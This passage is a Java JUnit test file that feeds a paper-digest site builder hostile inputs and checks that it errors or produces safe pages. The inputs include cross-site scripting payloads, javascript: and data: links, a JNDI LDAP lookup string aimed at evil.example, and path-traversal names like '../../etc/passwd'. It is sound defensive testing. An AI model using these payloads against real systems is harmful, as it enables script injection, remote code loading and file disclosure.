package io.github.paperdigest.digest;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.github.paperdigest.engine.BuildConfig;
import io.github.paperdigest.engine.BuildLog;
import io.github.paperdigest.engine.BuildResult;
import io.github.paperdigest.engine.SiteBuilder;
import io.github.paperdigest.model.PaperDigestException;
import io.github.paperdigest.testing.SafeSite;
import io.github.paperdigest.testing.SharedModels;
import io.github.paperdigest.testing.SiteFiles;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Hostile and broken digests of every format, beyond {@link BrokenDigestCorpusTest}: markup in every
 * field, links that run code, names that try to leave the site folder, nesting and lines that try to
 * exhaust the stack or the clock, repetition, bytes that are not UTF-8, conflicting duplicates and XML
 * entity tricks. Each gives either an error naming the file and line, or a safe site (see
 * {@link SafeSite}) written only inside the output folder, within a time bound, strict or not.
 */
class HostileDigestCorpusTest {

    private static final String ABSTRACT = "We study how video diffusion models can be extended to minute-long videos"
            + " with consistent characters, and we release a benchmark of long prompts for evaluation.";
    private static final String ABSTRACT_2 = "A second paper on multimodal large language models for long video"
            + " understanding, with memory tokens that summarise what the model has already watched, in one pass.";
    private static final String LONGER_ABSTRACT = ABSTRACT + " The benchmark has one thousand prompts and human ratings.";
    private static final String FEED = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
            + "<feed xmlns=\"http://www.w3.org/2005/Atom\" xmlns:arxiv=\"http://arxiv.org/schemas/atom\">\n";
    private static final int MB = 1 << 20;
    private static final Duration DEFAULT_LIMIT = Duration.ofSeconds(30);
    private static final String BASE_URL = "https://example.org/papers/";
    /** Replaced by the digest folder's file: URI when the files are written. */
    private static final String DIGESTS = "@DIGESTS@";

    /** Digest files and what must come of them: a site with this many papers, or an error at this line. */
    record Case(String name, Map<String, byte[]> files, int papers, String errorFile, int errorLine, String errorText,
            Duration limit, Consumer<Path> check) {

        static Case site(String name, int papers, Object... namesAndContents) {
            return new Case(name, files(namesAndContents), papers, null, -1, null, DEFAULT_LIMIT, site -> { });
        }

        static Case error(String name, String file, int line, String text, Object... namesAndContents) {
            return new Case(name, files(namesAndContents), -1, file, line, text, DEFAULT_LIMIT, site -> { });
        }

        Case within(Duration bound) {
            return new Case(name, files, papers, errorFile, errorLine, errorText, bound, check);
        }

        /** A further check of the site (in strict mode, or in lenient mode when the case gives a site). */
        Case then(Consumer<Path> siteCheck) {
            return new Case(name, files, papers, errorFile, errorLine, errorText, limit, check.andThen(siteCheck));
        }

        boolean isError() {
            return errorText != null;
        }

        private static Map<String, byte[]> files(Object... namesAndContents) {
            Map<String, byte[]> files = new LinkedHashMap<>();
            for (int i = 0; i < namesAndContents.length; i += 2) {
                Object content = namesAndContents[i + 1];
                files.put((String) namesAndContents[i], content instanceof byte[] b ? b : bytes((String) content));
            }
            return Collections.unmodifiableMap(files);
        }

        @Override
        public String toString() {
            return name + " " + files.keySet();
        }
    }

    static Stream<Case> corpus() {
        List<Case> cases = new ArrayList<>();
        markupInEveryField(cases);
        namesThatTryToLeaveTheSite(cases);
        deepNesting(cases);
        hugeLines(cases);
        repetition(cases);
        invalidUtf8(cases);
        duplicates(cases);
        xmlTricks(cases);
        jsonTricks(cases);
        generatedMarkdown(cases);
        referenceManagers(cases);
        spreadsheets(cases);
        listingsAndScrapes(cases);
        manyTags(cases);
        orgNotes(cases);
        // -DpaperDigest.hostile.only=<part of a case's name> runs only the matching cases
        String only = System.getProperty("paperDigest.hostile.only", "");
        return cases.stream().filter(c -> c.name().contains(only));
    }

    // ---------------------------------------------------------------------------------------------
    // script tags, event handlers and links that run code, in every field of every format

    private static void markupInEveryField(List<Case> cases) {
        String scriptTitle = "<script>alert(1)</script> Title One";
        String imgAbstract = "<img src=x onerror=alert(2)> " + ABSTRACT + " <svg/onload=alert(3)> <a href=javascript:alert(4)>x</a>";
        cases.add(Case.site("script and event handlers in plain-text titles and abstracts", 2, "markup.txt",
                scriptTitle + "\n\n" + imgAbstract + "\n\n<body onload=alert(5)>Second\n\n" + ABSTRACT_2 + "\n")
                .then(site -> {
                    assertPaperPage(site, scriptTitle, imgAbstract);
                    assertPaperPage(site, "<body onload=alert(5)>Second", ABSTRACT_2);
                }));
        cases.add(Case.site("script in front matter title, notes, tags and source", 1, "front.md", """
                ---
                title: "<script>alert(1)</script> Week <img src=x onerror=alert(2)>"
                notes: "<script>alert(3)</script> **bold** <a href='javascript:alert(4)' onclick='alert(5)'>x</a>"
                tags: ["<svg onload=alert(6)>", "<script>"]
                source: "javascript:alert(7)"
                ---
                ## A Paper

                """ + ABSTRACT + "\n").then(site -> assertEquals("<script>alert(1)</script> Week <img src=x onerror=alert(2)>",
                        SiteFiles.parse(site, "digest/front.html").selectFirst("h1").wholeText())));
        cases.add(Case.site("event handlers and scripts in Markdown metadata values", 1, "meta.md", """
                ## Paper <b onmouseover=alert(1)>bold</b>

                - authors: <script>alert(2)</script>, Eve <img src=x onerror=alert(3)>
                - tags: <svg onload=alert(4)>, normal tag
                - venue: <iframe src=javascript:alert(5)></iframe>
                - upvotes: <script>
                - date: <script>2025-01-01</script>

                """ + ABSTRACT + "\n")
                .then(site -> assertPaperPage(site, "Paper <b onmouseover=alert(1)>bold</b>", ABSTRACT)));
        cases.add(Case.site("raw HTML blocks in a Markdown note: script, style, iframe, object, embed, form", 1,
                "blocks.md", "## A Paper\n\n" + ABSTRACT + "\n\n> The note.\n\n<script>alert(1)</script>\n\n"
                        + "<style>body{background:url(javascript:alert(2))}</style>\n\n"
                        + "<iframe src=\"https://evil.example/\"></iframe>\n\n"
                        + "<object data=\"x.swf\"></object><embed src=\"x.swf\">\n\n"
                        + "<form action=\"javascript:alert(3)\"><input type=submit formaction=\"javascript:alert(4)\"></form>\n"));
        cases.add(Case.site("SVG with onload, base href, meta refresh and link import in a Markdown note", 1,
                "svg.md", "## A Paper\n\n" + ABSTRACT + "\n\n<svg onload=\"alert(1)\"><script>alert(2)</script>"
                        + "<foreignObject><iframe src=x></iframe></foreignObject></svg>\n\n"
                        + "<base href=\"javascript:alert(3)//\">\n\n"
                        + "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(4)\">\n\n"
                        + "<link rel=\"import\" href=\"https://evil.example/x.html\">\n"));
        cases.add(Case.site("raw HTML in a digest's introduction", 1, "intro.md", """
                # Digest <script>alert(1)</script>

                <details open ontoggle=alert(2)><summary>x</summary></details>

                <base href="//evil.example/">

                <meta http-equiv="refresh" content="0;url=https://evil.example/">

                <math><mtext><table><mglyph><style><img src=x onerror=alert(3)></style></mglyph></table></mtext></math>

                ## A Paper

                """ + ABSTRACT + "\n"));
        cases.add(Case.site("javascript:, data: and vbscript: links in a Markdown note", 1, "links.md",
                "## A Paper\n\n" + ABSTRACT + "\n\n> [a](javascript:alert(1)) [b](JaVaScRiPt:alert(2)) [c](<javascript:alert(3)>)"
                        + " [d](jav&#x09;ascript:alert(4)) [e](data:text/html;base64,PHNjcmlwdD5hbGVydCg1KTwvc2NyaXB0Pg==)"
                        + " [f](vbscript:msgbox(6)) <javascript:alert(7)> ![g](data:image/svg+xml;base64,PHN2Zy8+)"
                        + " ![h](javascript:alert(8)) [i][ref] [j](&#106;avascript:alert(10)) [k](java%0ascript:alert(11))\n\n"
                        + "[ref]: javascript:alert(9)\n"));
        cases.add(Case.site("javascript:, data: and vbscript: links in a Markdown paper's metadata and abstract", 1,
                "meta-links.md", "## A Paper\n\n- code: javascript:alert(1)\n- project: data:text/html,<script>alert(2)</script>\n"
                        + "- pdf: vbscript:msgbox(3)\n- paper: [x](javascript:alert(4))\n- dataset: <javascript:alert(5)>\n"
                        + "- video: //evil.example/x\n- url: https://example.org/ok\n\n" + ABSTRACT
                        + " [link](javascript:alert(6)) and [data](data:text/html,x) and <vbscript:msgbox(7)>.\n"));
        cases.add(Case.site("markup in every field of a Hugging Face JSON paper", 1, "hf.json", """
                [{"paper": {"id": "2501.00001", "title": "<script>alert(1)</script>",
                  "summary": "<img src=x onerror=alert(2)> %s",
                  "authors": [{"name": "<svg onload=alert(3)>"}, {"name": "Eve\\"><script>alert(4)</script>"}],
                  "ai_keywords": ["<iframe src=javascript:alert(5)>", "video generation"],
                  "githubRepo": "javascript:alert(6)", "projectPage": "data:text/html,<script>alert(7)</script>",
                  "ai_summary": "<object data=x>", "venue": "<base href=//evil.example/>", "upvotes": "<b>9</b>",
                  "publishedAt": "<script>2025-01-01</script>"},
                  "submittedOnDailyAt": "2025-01-22T00:00:00.000Z"}]
                """.formatted(ABSTRACT)).then(site -> assertPaperPage(site, "<script>alert(1)</script>",
                        "<img src=x onerror=alert(2)> " + ABSTRACT)));
        cases.add(Case.site("javascript:, data: and vbscript: URLs in JSON link fields", 2, "links.json", """
                {"papers": [
                  {"title": "Links One", "summary": "%s", "url": " javascript:alert(1)", "pdf": "JAVASCRIPT:alert(2)",
                   "code": "https://ok.example/\\"onmouseover=\\"alert(3)", "projectPage": "https://x.example/<script>",
                   "doi": "javascript:alert(4)"},
                  {"title": "Links Two", "abstract": "%s", "github": "vbscript:msgbox(5)", "link": "data:,x",
                   "abs": "\\tjavascript:alert(6)", "project_page": "http://\\u0000javascript:alert(7)"}
                ]}
                """.formatted(ABSTRACT, ABSTRACT_2)));
        cases.add(Case.site("markup in arXiv JSON Lines fields", 1, "markup.jsonl", "{\"id\": \"2501.00002\", \"title\":"
                + " \"<script>alert(1)</script>\", \"abstract\": \"" + ABSTRACT + " <img src=x onerror=alert(2)>\","
                + " \"authors\": \"<svg onload=alert(3)>, Bob and <script>alert(4)</script>\","
                + " \"categories\": \"<script>alert(5)</script> cs.CV\", \"comments\": \"<iframe>\","
                + " \"journal-ref\": \"<base href=//x>\", \"doi\": \"<svg onload=alert(6)>\", \"submitter\": \"<b>\"}\n"));
        cases.add(Case.site("markup and javascript: links in Atom entries", 1, "markup.atom", FEED
                + "<title>Feed &lt;script&gt;alert(1)&lt;/script&gt;</title>\n"
                + "<entry><id>http://arxiv.org/abs/2501.00003v1</id>\n"
                + "<title>&lt;img src=x onerror=alert(2)&gt; Entry</title>\n"
                + "<summary><![CDATA[<script>alert(3)</script> " + ABSTRACT + "]]></summary>\n"
                + "<author><name>&lt;svg onload=alert(4)&gt;</name></author>\n"
                + "<link href=\"javascript:alert(5)\" rel=\"alternate\"/><link title=\"pdf\" href=\"data:application/pdf,x\"/>\n"
                + "<link href=\"vbscript:msgbox(6)\"/>\n"
                + "<category term=\"&lt;svg onload=alert(7)&gt;\"/><category term=\"cs.CV\"/>\n"
                + "<arxiv:comment><![CDATA[<iframe src=javascript:alert(8)>]]></arxiv:comment>\n"
                + "<arxiv:journal_ref>&lt;base href=//evil.example/&gt;</arxiv:journal_ref>\n"
                + "</entry>\n</feed>\n")
                .then(site -> assertPaperPage(site, "<img src=x onerror=alert(2)> Entry", "<script>alert(3)</script> " + ABSTRACT)));
        cases.add(Case.site("numeric character references and an HTML-typed Atom title", 2, "refs.atom", FEED
                + "<entry><title>&#60;script&#62;alert(1)&#60;/script&#62;</title><summary>" + ABSTRACT + "</summary></entry>\n"
                + "<entry><title type=\"html\">&lt;b onclick=\"alert(2)\"&gt;Bold&lt;/b&gt;</title><summary type=\"html\">"
                + "&lt;p&gt;" + ABSTRACT_2 + "&lt;/p&gt;</summary></entry>\n</feed>\n")
                .then(site -> assertPaperPage(site, "<script>alert(1)</script>", ABSTRACT)));
        cases.add(Case.error("an Atom title with XHTML children", "xhtml.atom", 4, "not a well-formed Atom feed",
                "xhtml.atom", FEED + "<entry>\n<title type=\"xhtml\"><div xmlns=\"http://www.w3.org/1999/xhtml\">"
                        + "<script>alert(1)</script></div></title><summary>" + ABSTRACT + "</summary></entry>\n</feed>\n"));
        cases.add(Case.site("template syntax and HTML comments in titles", 3, "templates.txt",
                "{{#paper}}{{{abstractHtml}}}{{/paper}} {{> partials/header}}\n\n" + ABSTRACT + "\n\n"
                        + "Title <!-- <script>alert(1)</script> --> ]]> <![CDATA[x]]>\n\n" + ABSTRACT_2 + "\n\n"
                        + "${jndi:ldap://evil.example/a} #{7*7} <%= 7*7 %>\n\n" + LONGER_ABSTRACT + "\n")
                .then(site -> assertPaperPage(site, "{{#paper}}{{{abstractHtml}}}{{/paper}} {{> partials/header}}", ABSTRACT)));
    }

    // ---------------------------------------------------------------------------------------------
    // path traversal, device names, long, emoji-only and right-to-left names

    private static void namesThatTryToLeaveTheSite(List<Case> cases) {
        List<String> titles = List.of("../../etc/passwd", "..\\..\\x", "/abs", "%2e%2e%2f", "CON", "nul", "COM1",
                "~/.ssh/id_rsa");
        StringBuilder text = new StringBuilder();
        for (String t : titles) {
            text.append(t).append("\n\n").append(ABSTRACT).append("\n\n");
        }
        cases.add(Case.site("path traversal and device names as plain-text titles", titles.size(), "traversal.txt",
                text.toString()).then(site -> titles.forEach(t -> assertPaperPage(site, t, ABSTRACT))));
        String traversalTags = "../../etc/passwd, ..\\..\\x, /abs, %2e%2e%2f, CON, nul, .., ., ~, <>, LPT1";
        cases.add(Case.site("path traversal in Markdown tags and front matter tags", 1, "tags.md",
                "---\ntags: [\"../../../root\", \"CON\", \"/etc/shadow\", \"..\"]\n---\n## A Paper\n\n- tags: "
                        + traversalTags + "\n\n" + ABSTRACT + "\n"));
        cases.add(Case.site("path traversal in JSON tags, keywords and ids", 1, "tags.json", """
                [{"id": "../../../etc/passwd", "title": "A Paper", "summary": "%s",
                  "tags": ["../../etc/passwd", "..\\\\..\\\\x", "/abs", "%%2e%%2e%%2f", "CON", "nul", "aux"],
                  "ai_keywords": ["../x", "C:\\\\Windows\\\\system32"]}]
                """.formatted(ABSTRACT)));
        cases.add(Case.site("path traversal in arXiv categories", 1, "categories.jsonl",
                "{\"title\": \"A Paper\", \"abstract\": \"" + ABSTRACT + "\", \"categories\":"
                        + " \"../../etc/passwd ..\\\\..\\\\x /abs %2e%2e%2f CON nul cs.CV\"}\n"));
        cases.add(Case.site("path traversal in Atom ids, categories and links", 1, "traversal.atom", FEED
                + "<entry><id>http://arxiv.org/abs/../../../etc/passwd</id><title>A Paper</title>\n"
                + "<summary>" + ABSTRACT + "</summary><link href=\"file:///etc/passwd\"/>\n"
                + "<category term=\"../../etc/passwd\"/><category term=\"CON\"/><category term=\"..\\..\\x\"/>"
                + "</entry>\n</feed>\n"));
        String longTitle = "Scaling ".repeat(37) + "Video";
        String longTag = "tag".repeat(100);
        cases.add(Case.site("a title and a tag of 300 characters", 2, "long.md", "## " + longTitle + "\n\n- tags: "
                + longTag + ", " + "x".repeat(300) + "\n\n" + ABSTRACT + "\n\n## " + "A".repeat(300) + "\n\n" + ABSTRACT_2 + "\n")
                .then(site -> assertPaperPage(site, longTitle, ABSTRACT)));
        List<String> symbolic = List.of("🚀🔥💯", "😀😀😀", "👩‍👩‍👧‍👦", "∑∫∂", "…");
        StringBuilder emoji = new StringBuilder();
        for (String t : symbolic) {
            emoji.append(t).append("\n\n").append(ABSTRACT).append(' ').append(t).append("\n\n");
        }
        cases.add(Case.site("emoji-only and symbol-only titles are different papers", symbolic.size(), "emoji.txt",
                emoji.toString()).then(site -> symbolic.forEach(t -> assertPaperPage(site, t, ABSTRACT + " " + t))));
        List<String> rtl = List.of("مراجعة نماذج توليد الفيديو", "סקירה של מודלים לווידאו", "\u202Egpj.exe\u202C Title",
                "\u2067isolate\u2069 \u200F mark");
        StringBuilder rtlLines = new StringBuilder();
        int n = 0;
        for (String t : rtl) {
            rtlLines.append("{\"id\": \"2502.0000").append(++n).append("\", \"title\": \"").append(t)
                    .append("\", \"abstract\": \"").append(ABSTRACT).append("\"}\n");
        }
        cases.add(Case.site("right-to-left titles and bidirectional overrides", rtl.size(), "rtl.jsonl", rtlLines.toString())
                .then(site -> rtl.forEach(t -> assertPaperPage(site, t, ABSTRACT))));
        cases.add(Case.site("digest file names that look like traversal, devices or markup", 5,
                "CON.txt", "Con Paper\n\n" + ABSTRACT + "\n",
                "nul.md", "## Nul Paper\n\n" + ABSTRACT + "\n",
                "%2e%2e%2f.jsonl", "{\"title\": \"Percent Paper\", \"abstract\": \"" + ABSTRACT + "\"}\n",
                "sub/dir/deep/COM1.atom", FEED + "<entry><title>Com Paper</title><summary>" + ABSTRACT + "</summary></entry></feed>",
                "a <script> & \"quote\" 名前.json", "[{\"title\": \"Script Name Paper\", \"summary\": \"" + ABSTRACT + "\"}]"));
        cases.add(Case.site("one file name in three formats", 1,
                "2025-01-01.txt", "Same Paper\n\n" + ABSTRACT + "\n",
                "2025-01-01.md", "## Same Paper\n\n" + ABSTRACT + "\n",
                "2025-01-01.json", "[{\"title\": \"Same Paper\", \"summary\": \"" + ABSTRACT + "\"}]")
                .then(site -> assertEquals(3, filesIn(site, "digest").size(), filesIn(site, "digest").toString())));
    }

    // ---------------------------------------------------------------------------------------------
    // nesting deep enough to exhaust a recursive parser or renderer

    private static void deepNesting(List<Case> cases) {
        String paper = "## A Paper\n\n" + ABSTRACT + "\n\n";
        cases.add(Case.site("10,000 nested block quotes in a note", 1, "quotes.md", paper + ">".repeat(10_000) + " deep\n"));
        cases.add(Case.site("10,000 nested bullet lists in a note", 1, "lists.md", paper + "- ".repeat(10_000) + "deep\n"));
        cases.add(Case.site("10,000 nested ordered lists in a note", 1, "ordered.md", paper + "1. ".repeat(10_000) + "deep\n"));
        cases.add(Case.site("10,000 alternating quotes and lists in a note", 1, "mixed.md", paper + "> - ".repeat(5_000) + "deep\n"));
        cases.add(Case.site("10,000 nested HTML elements in a note", 1, "divs.md",
                paper + "<div>".repeat(10_000) + "deep" + "</div>".repeat(10_000) + "\n\n" + "<b><i>".repeat(5_000) + "x\n"));
        String brackets = "[".repeat(10_000) + "(".repeat(10_000) + "*".repeat(10_000) + "x";
        cases.add(Case.site("10,000 nested brackets, parentheses and emphasis in a Markdown title and abstract", 1,
                "brackets.md", "## " + brackets + "\n\n" + ABSTRACT + " " + "[".repeat(10_000) + "x"
                        + "](https://example.org/a)".repeat(10_000) + " " + "_".repeat(10_000) + "\n"));
        cases.add(Case.site("10,000 nested parentheses in a URL in a plain-text abstract", 1, "parens.txt",
                "A Paper\n\n" + ABSTRACT + " https://example.org/" + "(".repeat(10_000) + ")".repeat(10_000)
                        + " and https://example.org/x" + ")".repeat(10_000) + "]".repeat(10_000) + "\n"));
        cases.add(Case.error("10,000 nested block quotes where the abstract should be", "quote-abstract.md", 1,
                "\"A Paper\" has no abstract", "quote-abstract.md", "## A Paper\n\n" + ">".repeat(10_000) + " " + ABSTRACT + "\n"));
        cases.add(Case.error("JSON nested 10,000 deep inside a paper", "deep.json", 3, "not valid JSON", "deep.json",
                "[\n{\"title\": \"A Paper\", \"summary\": \"" + ABSTRACT + "\",\n \"x\": " + "[".repeat(10_000)
                        + "]".repeat(10_000) + "}\n]\n"));
        cases.add(Case.error("JSON Lines record nested 10,000 deep", "deep.jsonl", 2, "not valid JSON", "deep.jsonl",
                "{\"title\": \"A Paper\", \"abstract\": \"" + ABSTRACT + "\"}\n{\"title\": \"B\", \"x\": "
                        + "{\"a\": ".repeat(10_000) + "1" + "}".repeat(10_000) + "}\n"));
        cases.add(Case.error("a JSON array nested 10,000 deep", "arrays.json", 1, "every element of the array must be a paper",
                "arrays.json", "[".repeat(10_000) + "]".repeat(10_000)));
        cases.add(Case.error("YAML front matter nested 10,000 deep", "deep-front.md", 1, "front matter is not valid YAML",
                "deep-front.md", "---\ntitle: " + "[".repeat(10_000) + "]".repeat(10_000) + "\n---\n" + paper));
        cases.add(Case.site("Atom entry with elements nested 10,000 deep", 1, "deep.atom", FEED + "<entry><title>A Paper</title>"
                + "<summary>" + ABSTRACT + "</summary>" + "<x>".repeat(10_000) + "</x>".repeat(10_000) + "</entry>\n</feed>\n"));
        cases.add(Case.site("huge and infinite numbers in JSON", 1, "numbers.json", "[{\"title\": \"A Paper\", \"summary\": \""
                + ABSTRACT + "\", \"upvotes\": " + "9".repeat(900) + ", \"score\": 1e999999, \"neg\": -1e-999999,"
                + " \"id\": 1e308}]"));
        cases.add(Case.error("a 5,000-digit number in JSON", "digits.json", 4, "not valid JSON", "digits.json",
                "[\n{\"title\": \"A Paper\", \"summary\": \"" + ABSTRACT + "\"},\n{\"title\": \"B Paper\", \"summary\": \""
                        + ABSTRACT_2 + "\",\n \"upvotes\": " + "9".repeat(5_000) + "}\n]\n"));
        cases.add(Case.error("a 5,000-digit number in JSON Lines", "digits.jsonl", 2, "not valid JSON", "digits.jsonl",
                "{\"title\": \"A Paper\", \"abstract\": \"" + ABSTRACT + "\"}\n{\"title\": \"B\", \"abstract\": \""
                        + ABSTRACT_2 + "\", \"upvotes\": " + "9".repeat(5_000) + "}\n"));
    }

    // ---------------------------------------------------------------------------------------------
    // lines of several megabytes, and megabyte-long lines made to trip up regular expressions

    private static void hugeLines(List<Case> cases) {
        String fourMb = "word ".repeat(4 * MB / 5);
        cases.add(Case.error("a 4 MB line in a plain-text digest", "huge.txt", 3, "line is longer than", "huge.txt",
                "A Paper\n\n" + fourMb + "\n").within(Duration.ofSeconds(60)));
        cases.add(Case.error("a 4 MB line in a Markdown note", "huge.md", 5, "line is longer than", "huge.md",
                "## A Paper\n\n" + ABSTRACT + "\n\n> " + fourMb + "\n").within(Duration.ofSeconds(60)));
        cases.add(Case.error("a 4 MB line in JSON Lines", "huge.jsonl", 1, "line is longer than", "huge.jsonl",
                "{\"title\": \"A Paper\", \"abstract\": \"" + fourMb + "\"}\n").within(Duration.ofSeconds(60)));
        cases.add(Case.site("a 4 MB summary in Hugging Face JSON", 1, "huge.json",
                "[{\"title\": \"A Paper\", \"summary\": \"" + fourMb + "\"}]").within(Duration.ofSeconds(60)));
        cases.add(Case.site("a 4 MB summary in an Atom feed", 1, "huge.atom",
                FEED + "<entry><title>A Paper</title><summary>" + fourMb + "</summary></entry></feed>\n")
                .within(Duration.ofSeconds(60)));
        int million = 1_000_000;
        cases.add(Case.site("a one-megabyte word as an abstract", 1, "2025-01-24-word.txt", "A Paper\n\n" + "a".repeat(million) + "\n"));
        cases.add(Case.site("a one-megabyte hyphenated name", 1, "name.txt",
                "A Paper\n\n" + ABSTRACT + " " + "aB-".repeat(million / 3) + "x\n"));
        cases.add(Case.site("a one-megabyte run of TeX quote marks", 1, "quotes.txt",
                "A Paper\n\n" + ABSTRACT + " " + "``".repeat(million / 2) + "\n"));
        cases.add(Case.site("a URL followed by a megabyte of closing brackets", 1, "closing.txt",
                "A Paper\n\n" + ABSTRACT + " https://example.org/a" + ")".repeat(million / 2) + "]".repeat(million / 2) + "\n"));
        cases.add(Case.site("a megabyte of punctuation inside a word", 1, "punctuation.txt",
                "A Paper\n\n" + ABSTRACT + " a" + "#".repeat(million) + "b\n"));
        cases.add(Case.site("a megabyte of TeX commands, dollars and dashes", 1, "tex.txt", "A Paper\n\n" + ABSTRACT + " "
                + "\\textbf{".repeat(40_000) + "$".repeat(150_000) + "\\alpha".repeat(40_000) + "-".repeat(150_000) + "\n"));
        String spaces = " ".repeat(million);
        cases.add(Case.site("tags separated by a megabyte of white space", 3,
                "spaces.md", "---\ntags: \"a" + spaces + "b\"\n---\n## Paper One\n\n- tags: a" + spaces + "b\n\n" + ABSTRACT + "\n",
                "spaces.json", "[{\"title\": \"Paper Two\", \"summary\": \"" + ABSTRACT + "\", \"tags\": \"a" + spaces + "b\","
                        + " \"ai_keywords\": \"c" + spaces + "d\"}]",
                "spaces.jsonl", "{\"title\": \"Paper Three\", \"abstract\": \"" + ABSTRACT + "\", \"categories\": \"cs.CV"
                        + spaces.substring(500_000) + "cs.AI\", \"authors\": \"A" + spaces.substring(500_000) + "and B\"}\n"));
        // a paragraph of links under a paper's heading is its links, not its abstract: telling so once took time that
        // grew with the number of links times the paragraph's length (eleven minutes for a megabyte of them)
        StringBuilder addresses = new StringBuilder();
        StringBuilder anchors = new StringBuilder();
        for (int i = 0; i < 30_000; i++) {
            addresses.append("https://e").append(i).append(".example.org/").append(i).append('\n');
            anchors.append("[code](https://github.com/owner/repo").append(i).append(")\n");
        }
        cases.add(Case.site("30,000 addresses in a paragraph over a Markdown paper's abstract", 1, "addresses.md",
                "## A Paper\n\n" + addresses + "\n" + ABSTRACT + "\n"));
        cases.add(Case.site("30,000 links in a paragraph over a Markdown paper's abstract", 1, "anchors.md",
                "## A Paper\n\n" + anchors + "\n" + ABSTRACT + "\n"));
    }

    // ---------------------------------------------------------------------------------------------
    // the same paper 200,000 times: fast, and one page

    private static void repetition(List<Case> cases) {
        int times = 200_000;
        Duration bound = Duration.ofSeconds(90);
        cases.add(Case.site("the same paper 200,000 times in plain text", 1, "repeat.txt",
                ("A Repeated Paper\n\n" + ABSTRACT + "\n\n").repeat(times)).within(bound).then(HostileDigestCorpusTest::onePaperPage));
        cases.add(Case.site("the same section 200,000 times in Markdown", 1, "repeat.md",
                ("## A Repeated Paper\n\n" + ABSTRACT + "\n\n").repeat(times)).within(bound).then(HostileDigestCorpusTest::onePaperPage));
        cases.add(Case.site("the same paper 200,000 times in Hugging Face JSON", 1, "repeat.json",
                "[" + ("{\"paper\": {\"id\": \"2501.12375\", \"title\": \"A Repeated Paper\", \"summary\": \"" + ABSTRACT
                        + "\"}},\n").repeat(times - 1) + "{\"title\": \"A Repeated Paper\", \"summary\": \"" + ABSTRACT + "\"}]")
                .within(bound).then(HostileDigestCorpusTest::onePaperPage));
        cases.add(Case.site("the same record 200,000 times in JSON Lines", 1, "repeat.jsonl",
                ("{\"id\": \"2501.12375\", \"title\": \"A Repeated Paper\", \"abstract\": \"" + ABSTRACT
                        + "\", \"categories\": \"cs.CV\"}\n").repeat(times)).within(bound).then(HostileDigestCorpusTest::onePaperPage));
        cases.add(Case.site("the same entry 200,000 times in an Atom feed", 1, "repeat.atom",
                FEED + ("<entry><id>http://arxiv.org/abs/2501.12375v1</id><title>A Repeated Paper</title><summary>" + ABSTRACT
                        + "</summary><category term=\"cs.CV\"/></entry>\n").repeat(times) + "</feed>\n")
                .within(bound).then(HostileDigestCorpusTest::onePaperPage));
    }

    // ---------------------------------------------------------------------------------------------
    // bytes that are not UTF-8, in every format

    private static void invalidUtf8(List<Case> cases) {
        cases.add(Case.error("an overlong encoding of '/' in a plain-text title", "overlong.txt", 5, "not valid UTF-8",
                "overlong.txt", concat(bytes("A Paper\n\n" + ABSTRACT + "\n\n.."), new byte[] {(byte) 0xC0, (byte) 0xAF},
                        bytes("etc" + "\n\n" + ABSTRACT_2 + "\n"))));
        cases.add(Case.error("UTF-16 with a byte-order mark in plain text", "utf16.txt", 1, "this file is UTF-16 (it starts"
                + " with a UTF-16 byte-order mark); save it as UTF-8", "utf16.txt",
                concat(new byte[] {(byte) 0xFF, (byte) 0xFE}, ("A Paper\n\n" + ABSTRACT + "\n").getBytes(StandardCharsets.UTF_16LE))));
        // without the mark, UTF-16's NUL bytes are valid UTF-8: the file would be read as no papers at all
        cases.add(Case.error("UTF-16 without a byte-order mark in plain text", "utf16-bare.txt", 1, "looks like UTF-16 (NUL"
                + " bytes); save it as UTF-8", "utf16-bare.txt", ("A Paper\n\n" + ABSTRACT + "\n").getBytes(StandardCharsets.UTF_16LE)));
        cases.add(Case.error("UTF-16 without a byte-order mark in RIS", "utf16-bare.ris", 1, "looks like UTF-16 (NUL bytes)",
                "utf16-bare.ris", ("TY  - JOUR\nTI  - A Paper\nDO  - 10.1000/x\nER  - \n").getBytes(StandardCharsets.UTF_16LE)));
        cases.add(Case.error("UTF-16 without a byte-order mark in Markdown", "utf16-bare.md", 1, "looks like UTF-16 (NUL bytes)",
                "utf16-bare.md", ("## A Paper\n\n" + ABSTRACT + "\n").getBytes(StandardCharsets.UTF_16LE)));
        // a JSON parser reads UTF-16 by itself, but the format is told by the first bytes read as UTF-8: a UTF-16 CSL
        // JSON file was read as Hugging Face JSON, its authors, venue and DOI lost, and its item ids taken for arXiv ids
        cases.add(Case.error("UTF-16 with a byte-order mark in Hugging Face JSON", "utf16.json", 1, "this file is UTF-16"
                + " (it starts with a UTF-16 byte-order mark); save it as UTF-8", "utf16.json",
                concat(new byte[] {(byte) 0xFF, (byte) 0xFE}, ("[{\"title\": \"A Paper\", \"summary\": \"" + ABSTRACT
                        + "\"}]").getBytes(StandardCharsets.UTF_16LE))));
        cases.add(Case.error("UTF-16 without a byte-order mark in CSL JSON", "utf16-csl.json", 1, "looks like UTF-16 (NUL"
                + " bytes); save it as UTF-8", "utf16-csl.json", ("[{\"id\": \"item1\", \"type\": \"article-journal\","
                        + " \"title\": \"A Paper\", \"container-title\": \"Nature\", \"author\": [{\"family\": \"Doe\","
                        + " \"given\": \"Jane\"}], \"abstract\": \"" + ABSTRACT + "\"}]").getBytes(StandardCharsets.UTF_16BE)));
        cases.add(Case.error("UTF-16 without a byte-order mark in JSON Lines", "utf16-bare.jsonl", 1, "looks like UTF-16 (NUL"
                + " bytes); save it as UTF-8", "utf16-bare.jsonl", ("{\"id\": \"2401.09414\", \"title\": \"A Paper\","
                        + " \"abstract\": \"" + ABSTRACT + "\"}\n").getBytes(StandardCharsets.UTF_16LE)));
        cases.add(Case.error("an encoded surrogate in Markdown front matter", "surrogate.md", 2, "not valid UTF-8",
